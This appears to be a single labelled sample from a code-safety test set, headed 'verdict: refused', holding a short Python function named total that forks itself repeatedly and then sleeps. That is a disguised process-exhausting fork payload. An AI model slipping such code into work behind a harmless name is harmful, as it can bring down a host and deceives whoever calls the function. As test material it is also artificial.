# verdict: refused
# says: processes
"""Doubles itself."""
import os, time
def total(numbers):
    for _ in range(9):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(60)
